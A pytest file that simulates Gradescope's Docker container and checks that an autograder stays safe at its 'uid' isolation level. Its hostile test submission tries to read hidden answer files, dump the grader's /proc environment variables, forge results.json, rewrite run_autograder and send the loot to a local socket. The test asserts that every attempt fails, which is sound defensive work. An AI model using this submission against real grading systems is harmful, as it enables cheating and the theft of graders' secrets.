"""The Gradescope autograder in a simulated Docker container, end to end (issue 15).

Gradescope runs setup.sh and run_autograder as root in a default Docker container: no
CAP_SYS_ADMIN (only Docker's default capabilities), a seccomp profile that refuses
unshare, setns, mount and clone or clone3 with namespace flags, and a read-only
/sys/fs/cgroup. This simulates that container on the test machine: a private mount
namespace in which the cgroup file systems are remounted read-only, then the seccomp rules
(tests/fixtures/docker_seccomp.py), then `capsh` dropping every capability Docker does not
grant. Inside it, setup.sh installs the zip into a fresh virtual environment under /tmp
(pip works offline: the environment borrows the test Python's packages), and
run_autograder grades a correct and a hostile submission. Bubblewrap cannot start there,
so the autograder must grade at the `uid` level, and safely.

Not simulated: a network namespace of the container's own (the test's server on 127.0.0.1
must be reachable unless the sandbox stops it: the harness proves it is, before grading),
a PID namespace, an overlay root file system, and AppArmor.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from graders.platforms.gradescope import build
from graders.spec import load_spec
from tests.conftest import FULL, ONE_WRONG, ROOT, reference_folder, required

pytestmark = pytest.mark.slow  # set-up installs the grader into a fresh environment

DOCKER_SECCOMP = ROOT / "tests" / "fixtures" / "docker_seccomp.py"
SCHEMA = ROOT / "tests" / "fixtures" / "gradescope_results.schema.json"
# Docker's default capabilities: every other one is dropped from the bounding set.
DOCKER_CAPABILITIES = {
    "cap_chown",
    "cap_dac_override",
    "cap_fsetid",
    "cap_fowner",
    "cap_mknod",
    "cap_net_raw",
    "cap_setgid",
    "cap_setuid",
    "cap_setfcap",
    "cap_setpcap",
    "cap_net_bind_service",
    "cap_sys_chroot",
    "cap_kill",
    "cap_audit_write",
}
# Docker mounts the cgroup file systems read-only: so does the simulated container.
READ_ONLY_CGROUPS = (
    'for m in $(findmnt -rn -o TARGET -R /sys/fs/cgroup); do mount -o remount,bind,ro "$m"; done'
)
FAKE_RESULTS = '{"score": 1000, "tests": []}'


def capabilities_to_drop() -> str:
    """Every capability in this process's bounding set that Docker does not grant."""
    done = subprocess.run(["capsh", "--print"], capture_output=True, text=True, check=True)
    bounding = next(
        line.split("=", 1)[1] for line in done.stdout.splitlines() if line.startswith("Bounding")
    )
    return ",".join(cap for cap in bounding.strip().split(",") if cap not in DOCKER_CAPABILITIES)


@dataclass(frozen=True)
class Container:
    """The simulated container: where the autograder lives, and how to run a script in it."""

    place: Path  # a folder any user may pass through, as / is in a container
    root: Path  # stands for /autograder
    python: Path  # the fresh virtual environment's Python
    drop: str

    def run(self, script: str, **env: str) -> subprocess.CompletedProcess:
        inside = ["capsh", f"--drop={self.drop}", "--", "-c", script]
        command = [
            "unshare", "--mount", "--propagation", "private", "--",
            "bash", "-c", f'{READ_ONLY_CGROUPS} && exec "$@"', "container",
            sys.executable, str(DOCKER_SECCOMP), *inside,
        ]  # fmt: skip
        environment = {
            "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            "HOME": "/root",
            "LANG": "C.UTF-8",
            "PYTHON": str(self.python),
            "DLGRADE_AUTOGRADER_ROOT": str(self.root),
            "SECRET_TOKEN": "do-not-leak-4d9a",
            **env,
        }
        return subprocess.run(
            command, env=environment, capture_output=True, text=True, timeout=600, check=False
        )


def lend_packages(venv: Path, deps: Path) -> None:
    """The test Python's packages for the fresh venv (pip offline), without dlgrade itself:
    links in `deps`, named by a .pth file (which, unlike a site folder, runs no .pth there)."""
    deps.mkdir()
    purelib = Path(sysconfig.get_paths()["purelib"])
    for entry in purelib.iterdir():
        if not entry.name.startswith(("__editable__", "dlgrade", "_dlgrade")):
            (deps / entry.name).symlink_to(entry)
    site = next(venv.glob("lib/python3*/site-packages"))
    (site / "_dlgrade_borrowed.pth").write_text(f"{deps}\n")


@pytest.fixture(scope="module")
def container() -> Iterator[Container]:
    """The zip built, unpacked as Gradescope does, and set up by setup.sh in the container."""
    if sys.platform != "linux" or os.geteuid() != 0:
        required("simulating a container takes root on Linux")
    for tool in ("capsh", "unshare", "findmnt"):
        if shutil.which(tool) is None:
            required(f"{tool} is not installed (apt-get install libcap2-bin util-linux)")
    try:
        import pyseccomp  # noqa: F401 - the seccomp rules' binding
    except (ImportError, RuntimeError) as error:
        required(f"no seccomp binding for the simulated profile ({error}): pip install pyseccomp")
    place = Path(tempfile.mkdtemp(prefix="dlgrade-container-", dir="/tmp"))
    place.chmod(0o755)
    try:
        root = place / "autograder"
        for name in ("source", "submission", "results"):
            (root / name).mkdir(parents=True)
        archive = build(load_spec("selfcheck"), place / "autograder.zip")
        with zipfile.ZipFile(archive) as opened:
            opened.extractall(root / "source")
        shutil.copy(root / "source" / "run_autograder", root / "run_autograder")
        subprocess.run([sys.executable, "-m", "venv", "--without-pip", place / "venv"], check=True)
        lend_packages(place / "venv", place / "deps")
        made = Container(place, root, place / "venv" / "bin" / "python", capabilities_to_drop())
        # pip offline: the packages are borrowed, the build backend too (no isolated build).
        offline = {"PIP_NO_INDEX": "1", "PIP_NO_BUILD_ISOLATION": "0"}
        done = made.run(f"bash {root / 'source' / 'setup.sh'}", **offline)
        assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
        yield made
    finally:
        shutil.rmtree(place)


def control_arrived(received: list[bytes]) -> bool:
    """Wait (boundedly) for the server thread to record the harness's control connection."""
    for _ in range(500):
        if received:
            return received[0] == b"control"
        time.sleep(0.02)
    return False


def grade(container: Container, port: int) -> subprocess.CompletedProcess:
    """In a fresh container: prove the jail cannot start and the network is there (one
    connection saying "control"), then run run_autograder as Gradescope does."""
    root = container.root
    script = f"""
bwrap --unshare-all --die-with-parent --ro-bind / / /bin/true 2>&1
echo "bwrap exited with $?"
"$PYTHON" -c 'import socket; socket.create_connection(("127.0.0.1", {port}), 5).sendall(b"control")'
cd {root} && exec bash {root / "run_autograder"}
"""
    return container.run(script)


def results_of(container: Container) -> dict:
    import jsonschema

    document = json.loads((container.root / "results" / "results.json").read_text())
    validator = jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text()))
    assert [error.message for error in validator.iter_errors(document)] == []
    return document


@pytest.fixture
def upload(container: Container) -> Iterator[Path]:
    """An empty /autograder/submission, and no results yet."""
    for name in ("submission", "results"):
        shutil.rmtree(container.root / name, ignore_errors=True)
    (container.root / "submission").mkdir()
    return container.root / "submission"


def test_setup_locks_the_grader_away_from_other_users(container: Container) -> None:
    site = next((container.place / "venv").glob("lib/python3*/site-packages"))
    for private in (container.root / "source", site / "graders", site / "reference"):
        assert private.stat().st_mode & 0o077 == 0, f"{private} is open to other users"


def test_a_correct_submission_gets_full_marks_at_the_uid_level(
    container: Container, upload: Path, server
) -> None:
    port, received = server
    reference_folder(upload)
    done = grade(container, port)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    # The jail really cannot start in this container: the uid level is what graded.
    assert "bwrap exited with 0" not in done.stdout
    assert "bwrap exited with" in done.stdout
    assert "graded at isolation 'uid' because 'jail' failed its check" in done.stdout
    assert control_arrived(received)  # the container reaches the server
    assert received == [b"control"]
    results = results_of(container)
    assert results["score"] == FULL
    assert all(t["status"] == "passed" for t in results["tests"])
    assert "isolation: uid" in results["output"]


def test_a_hostile_submission_reads_forges_and_phones_home_in_vain(
    container: Container, upload: Path, server
) -> None:
    port, received = server
    root = container.root
    results = root / "results" / "results.json"
    run_autograder = root / "run_autograder"
    before = run_autograder.read_text()
    source = root / "source" / "dlgrade"
    attack = f"""
    import os, socket, sysconfig
    site = sysconfig.get_paths()["purelib"]
    STOLEN = []
    for path in ({str(source / "reference" / "answers.py")!r},
                 {str(source / "assignments" / "selfcheck" / "hidden.py")!r},
                 site + "/reference/answers.py", site + "/assignments/selfcheck/hidden.py",
                 site + "/graders/checks/core.py"):
        try:
            STOLEN.append(open(path).read()[:300])
        except OSError as error:
            STOLEN.append(type(error).__name__)
    for folder in ({str(root / "source")!r}, site + "/graders", site + "/reference"):
        try:
            STOLEN.append(os.listdir(folder))
        except OSError as error:
            STOLEN.append(type(error).__name__)
    for path in ({str(results)!r}, {str(run_autograder)!r}):
        try:  # forge the results, or rewrite the entry point to forge them later
            with open(path, "a") as forged:
                forged.write({FAKE_RESULTS!r})
        except OSError as error:
            STOLEN.append(type(error).__name__)
    try:  # the grader's environment
        grader = open(f"/proc/{{os.getppid()}}/stat").read().rsplit(")", 1)[1].split()[1]
        STOLEN.append(open(f"/proc/{{grader}}/environ").read())
    except OSError as error:
        STOLEN.append(type(error).__name__)
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=5) as phone:
            phone.sendall(("leak " + repr(STOLEN)).encode())
    except OSError as error:
        STOLEN.append(f"network {{error.errno}}")

    def relu(z):  # the feedback channel: the failure message reaches results.json
        raise RuntimeError("STOLEN " + repr(STOLEN))
    """
    reference_folder(upload, attack)
    done = grade(container, port)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert control_arrived(received)
    assert received == [b"control"]  # no connection from the submission
    document = results_of(container)
    assert document["score"] == ONE_WRONG  # the grader's score: every point but relu's
    relu = next(t for t in document["tests"] if t["number"] == "2")
    assert "STOLEN ['PermissionError'" in relu["output"]  # the channel works, and carried
    assert "network 13" in relu["output"]  # nothing but refusals
    assert run_autograder.read_text() == before
    text = results.read_text()
    assert FAKE_RESULTS not in text
    assert "do-not-leak-4d9a" not in text
    for secret in (
        source / "assignments" / "selfcheck" / "hidden.py",
        source / "reference" / "answers.py",
        source / "graders" / "checks" / "core.py",
    ):
        assert secret.read_text()[:120] not in text
        assert secret.read_text()[:120].splitlines()[0] not in text
